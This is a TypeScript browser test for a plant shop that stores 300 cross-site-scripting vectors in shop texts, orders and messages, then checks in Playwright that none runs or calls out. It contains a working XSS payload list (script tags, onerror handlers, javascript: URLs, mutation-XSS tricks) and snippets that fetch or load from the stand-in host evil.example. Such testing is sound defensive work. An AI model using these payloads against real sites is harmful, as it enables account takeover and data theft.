/*
 * Stores scripts in a shop's texts and opens the pages that show them in a browser. No script may run, send a request elsewhere, or even
 * be stopped only by the page's Content-Security-Policy.
 */
import { chromium } from "@playwright/test";
import { expect } from "vitest";
import { findBrowser } from "../scripts/browser.ts";
import { Client, type Reply } from "./long/client.ts";
import { openTestShopWithPages } from "./pages.ts";
import { address, formOf, owner, productData, productForm, shopperPassword } from "./shop.ts";

/** A function that no page defines: a call of it proves that a script ran. */
const ran = "scriptHasRun";

const codes: ((n: number) => string)[] = [
  (n) => `${ran}(${n})`,
  (n) => `window['script'+'HasRun'](${n})`,
  (n) => `alert(${n})`,
  (n) => `top.${ran}(${n})`,
  (n) => `import('//evil.example/${n}')`,
  (n) => `fetch('//evil.example/${n}')`,
  (n) => `new Image().src='//evil.example/${n}'`,
  (n) => `location='//evil.example/${n}'`,
  (n) => `eval('${ran}(${n})')`,
  (n) => `setTimeout('${ran}(${n})')`,
  (n) => `${ran}\`${n}\``,
  (n) => `document.write('<img src=//evil.example/${n}>')`,
];

const shapes: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><img src=x onerror=${code}>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code) => `<iframe src="javascript:parent.${code}">`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<body onload=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<style>@import'//evil.example/${code.length}';</style><link rel=stylesheet href=//evil.example>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</textarea><img src=x onerror=${code}>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<object data="javascript:${code}">`,
  (code) => `<form action="javascript:${code}"><button autofocus>x`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `javascript:${code}//`,
  (code) => `</script><script>${code}</script><img src=//evil.example/x>`,
];

/** This many of the 300, all shapes and codes equally often. */
export function vectors(count: number): string[] {
  const all = shapes.flatMap((shape, at) =>
    codes.map((_, to) => shape((codes[(to + at) % codes.length] ?? String)(at * 12 + to))),
  );
  return Array.from({ length: count }, (_, at) => all[Math.floor((at * all.length) / count)] ?? "");
}

/** How many vectors are stored and opened at a time. */
const together = 10;

export type ScriptFigures = { vectors: number; places: number; pages: number; findings: string[] };

/** Stores the vectors in a new shop, ten at a time, and opens the pages that show them. */
export async function openStoredScripts(all: string[]): Promise<ScriptFigures> {
  const shop = await openTestShopWithPages("http://shop.example");
  const browser = await chromium.launch({ executablePath: findBrowser(), args: ["--no-sandbox", "--disable-gpu"] });
  try {
    const base = await shop.app.listen({ port: 0, host: "127.0.0.1" });
    const people = await openPeople(base);
    const findings: string[] = [];
    let pages = 0;
    let places = 0;
    for (let at = 0; at < all.length; at += together) {
      const stored = await store(people, all.slice(at, at + together));
      places = stored.places;
      for (const [who, paths] of Object.entries(stored.pages)) {
        const cookies = who === "visitor" ? new Map<string, string>() : people[who as "owner" | "shopper"].cookies;
        const context = await browser.newContext();
        await context.addCookies([...cookies].map(([name, value]) => ({ name, value, url: base })));
        await context.exposeFunction(ran, (what: unknown) => void findings.push(`script ${what} has run`));
        await context.exposeFunction(
          "policyHasBlocked",
          (what: string) => void findings.push(`the policy blocked ${what}`),
        );
        await context.addInitScript(() => {
          addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) => {
            (window as unknown as { policyHasBlocked(what: string): void }).policyHasBlocked(
              `${violatedDirective} ${blockedURI} ${sample}`,
            );
          });
        });
        context.on("request", (request) => {
          if (!request.url().startsWith(base) && !request.url().startsWith("data:"))
            findings.push(`asked ${request.url()}`);
        });
        const page = await context.newPage();
        page.on("dialog", (dialog) => {
          findings.push(`a dialog says ${dialog.message()}`);
          void dialog.dismiss();
        });
        for (const path of paths) {
          const answer = await page.goto(base + path, { waitUntil: "networkidle" });
          expect([path, answer?.status()]).toEqual([path, 200]);
          // No script has navigated away from the shop.
          expect(page.url().startsWith(base)).toBe(true);
          pages += 1;
        }
        await context.close();
      }
    }
    return { vectors: all.length, places, pages, findings };
  } finally {
    await browser.close();
    await shop.close();
  }
}

type People = { owner: Client; shopper: Client; visitor: Client; email: string };

async function openPeople(base: string): Promise<People> {
  const people = {
    owner: new Client(base),
    shopper: new Client(base),
    visitor: new Client(base),
    email: "s@example.com",
  };
  done(await people.owner.post("/api/admin/login", owner));
  const { email } = people;
  done(await people.shopper.post("/api/user/register", { name: "Ayesha", email, password: shopperPassword }));
  return people;
}

function done({ status, body, text, error }: Reply) {
  if (status !== 200) throw new Error(`${status}: ${text || error}`);
  return body;
}

/** Stores the vectors in twelve kinds of text: all of them in each long one, one after the other in the short ones. */
async function store({ owner: admin, shopper, visitor }: People, some: string[]) {
  const long = some.join(" ");
  const html = some.map((one) => `<p>${one}</p>`).join("");
  const short = (nth: number, max: number) => {
    const fitting = some.filter((one) => one.length <= max);
    return fitting[nth % Math.max(1, fitting.length)] ?? "<b>x</b>";
  };
  const mark = crypto.randomUUID().slice(0, 6);
  done(await admin.put("/api/admin/settings", { shopName: short(0, 60), street: short(1, 200) }));
  const category = `${mark} ${short(2, 90)}`;
  done(await admin.post("/api/category/create", formOf({ name: category, description: long.slice(0, 500) })));
  const product = done(
    await admin.post(
      "/api/product/add",
      productForm(
        productData({
          name: short(3, 200),
          bengaliName: short(4, 200),
          botanicalName: short(5, 200),
          shortDescription: long.slice(0, 1000),
          description: html,
          careGuide: html,
          synonyms: some.filter((one) => one.length <= 200),
          category,
          sizes: ["Small Pot"],
        }),
      ),
    ),
  )._id;
  done(await shopper.post("/api/user/name", { name: short(6, 100) }));
  const items = [{ product, size: "Small Pot", quantity: 1 }];
  const to = { ...address, firstName: short(7, 100), street: short(8, 200) };
  const { orderId, trackingPath } = done(await shopper.post("/api/order/cod", { items, address: to }));
  done(await admin.post("/api/order/note", { orderId, note: long.slice(0, 2000) }));
  done(await admin.post("/api/order/courier", { orderId, courierName: short(9, 100), trackingNumber: short(3, 100) }));
  done(await admin.post("/api/order/cancel", { orderId, reason: short(4, 200) }));
  done(
    await visitor.post("/api/contact", { name: short(5, 100), email: "a@example.com", message: long.slice(0, 5000) }),
  );
  const searched = encodeURIComponent(short(0, 100));
  return {
    places: 12,
    pages: {
      visitor: ["/", `/product/${product}`, `/collection?q=${searched}`, trackingPath, "/contact"],
      shopper: ["/my-orders", "/account"],
      owner: ["/admin/list", `/admin/orders/${orderId}`, "/admin/messages", "/admin/categories", "/admin/mails"],
    },
  };
}
